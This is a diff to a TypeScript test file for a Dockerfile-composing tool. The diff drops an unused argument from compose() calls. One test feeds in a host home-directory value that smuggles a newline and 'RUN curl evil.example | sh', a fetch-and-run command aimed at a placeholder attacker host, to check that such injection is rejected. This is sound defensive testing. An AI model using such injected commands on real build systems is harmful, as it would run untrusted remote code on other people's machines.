@@ -49,7 +49,7 @@ function shuffle<T>(items: readonly T[], rand: () => number): T[] {
 }
 
 function dockerfileFor(image: string, names: readonly string[], available: readonly LoadedExtension[]) {
-  return compose({ config: fakeConfig(image, names), available, chosen: new Map(), rocktsVersion: '0.0.0', hostUser: undefined });
+  return compose({ config: fakeConfig(image, names), available, rocktsVersion: '0.0.0', hostUser: undefined });
 }
 
 /** The Dockerfile's blocks: header, then one per stage, keyed by stage name. */
@@ -168,7 +168,7 @@ test('an extension whose builder stage would take the shared builder base stage 
 test('host user values cannot add Dockerfile text', () => {
   const available = [fakeExtension({ name: 'a', setup: 'RUN echo {{user.home}}' })];
   const compose_ = (home: string) =>
-    compose({ config: fakeConfig('ubuntu:24.04', ['a']), available, chosen: new Map(), rocktsVersion: '0', hostUser: { name: 'dev', uid: 1, gid: 1, home } });
+    compose({ config: fakeConfig('ubuntu:24.04', ['a']), available, rocktsVersion: '0', hostUser: { name: 'dev', uid: 1, gid: 1, home } });
   expect(() => compose_('/home/dev\nRUN curl evil.example | sh')).toThrow("the host user's home");
   expect(() => compose_('relative/home')).toThrow('is not an absolute path');
   expect(compose_('/home/dev').dockerfile).toContain('RUN echo /home/dev');
